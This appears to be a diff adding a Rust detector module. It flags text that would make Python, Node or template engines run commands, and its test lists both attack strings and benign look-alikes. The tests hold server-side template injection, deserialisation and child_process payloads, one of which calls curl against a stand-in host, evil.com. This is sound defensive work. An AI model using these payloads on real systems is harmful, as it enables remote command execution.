@@ -1,0 +1,97 @@
+//! What a language's own means hand to a shell, or to what could: as all of a text, where a report about code has sentences
+//! around it.
+
+use crate::statement::contains;
+use crate::text::{contains_small, is_compact};
+
+/// Whether Python, Node or an engine of templates would start a program.
+pub(super) fn is_language(text: &[u8]) -> bool {
+    is_python(text) || is_node(text) || is_template(text)
+}
+
+/// `__import__('os').system('id')`, `os.popen('id')`, `!!python/object/apply:os.system ['id']`
+fn is_python(text: &[u8]) -> bool {
+    const CALLS: [&[u8]; 3] = [b"os.system(", b"os.popen(", b"subprocess."];
+    (contains(text, b"__import__(") || contains(text, b"!!python/object/")) && is_compact(text, 6)
+        || CALLS.iter().any(|call| text.starts_with(call)) && is_compact(text, 3) && has_quote(text)
+}
+
+/// `require('child_process').execSync('id')`, `process.mainModule.require('child_process')`, and a function that was serialised.
+fn is_node(text: &[u8]) -> bool {
+    contains(text, b"_$$ND_FUNC$$_")
+        || contains(text, b"child_process")
+            && is_compact(text, 6)
+            && [&b"require("[..], b"import("].iter().any(|load| contains(text, load))
+            && [&b").exec"[..], b").spawn", b".exec(", b".execSync(", b"mainModule"]
+                .iter()
+                .any(|run| contains(text, run))
+}
+
+/// An expression of a template that leaves what it was given: `{{lipsum.__globals__.os.popen('id').read()}}`,
+/// `{{['id']|filter('system')}}`, `"freemarker.template.utility.Execute"?new()("id")`.
+fn is_template(text: &[u8]) -> bool {
+    const INSIDES: [&[u8]; 7] = [
+        b"__globals__",
+        b"__class__",
+        b"__subclasses__",
+        b"__builtins__",
+        b".popen(",
+        b"child_process",
+        b"getruntime",
+    ];
+    const FILTERS: [&[u8]; 4] = [b"filter(", b"map(", b"sort(", b"reduce("];
+    const FUNCTIONS: [&[u8]; 5] = [b"system", b"exec", b"passthru", b"shell_exec", b"popen"];
+    let is_expression = [&b"{{"[..], b"{%", b"${", b"#{", b"<%", b"@{"];
+    let is_expression = is_expression.iter().any(|opens| contains(text, opens));
+    let is_filtered = |name: &[u8]| {
+        ["'", "\""].iter().any(|q| contains(text, &[q.as_bytes(), name, q.as_bytes()].concat()))
+    };
+    is_compact(text, 12)
+        && (is_expression && INSIDES.iter().any(|inside| contains_small(text, inside))
+            || is_expression
+                && FILTERS.iter().any(|filter| contains(text, filter))
+                && FUNCTIONS.iter().any(|name| is_filtered(name))
+            || contains_small(text, b"freemarker.template.utility.")
+            || contains_small(text, b"system.diagnostics.process.start("))
+}
+
+fn has_quote(text: &[u8]) -> bool {
+    text.iter().any(|b| matches!(b, b'\'' | b'"'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_language_would_start_is_found_and_what_is_said_of_it_is_not() {
+        for attack in [
+            "__import__('os').system('id')",
+            "os.popen('id').read()",
+            "!!python/object/apply:os.system ['id']",
+            "require('child_process').execSync('curl evil.com')",
+            "global.process.mainModule.require('child_process').execSync('id')",
+            "import('child_process').then(m=>m.exec('id'))",
+            "_$$ND_FUNC$$_function(){x}()",
+            "{{lipsum.__globals__.os.popen('id').read()}}",
+            "{{['id']|filter('system')}}",
+            "\"freemarker.template.utility.Execute\"?new()(\"id\")",
+            "@{System.Diagnostics.Process.Start(\"cmd\")}",
+        ] {
+            assert!(is_language(attack.as_bytes()), "{attack}");
+        }
+        for benign in [
+            "How do I get the output of require('child_process').exec in a test of mine?",
+            "const { exec } = require('child_process')",
+            "child_process",
+            "{{name}}",
+            "{{ items|map('price')|sum }}",
+            "self.__class__",
+            "${user.name}",
+            "os.path.join('a')",
+            "the system (new)",
+        ] {
+            assert!(!is_language(benign.as_bytes()), "{benign}");
+        }
+    }
+}
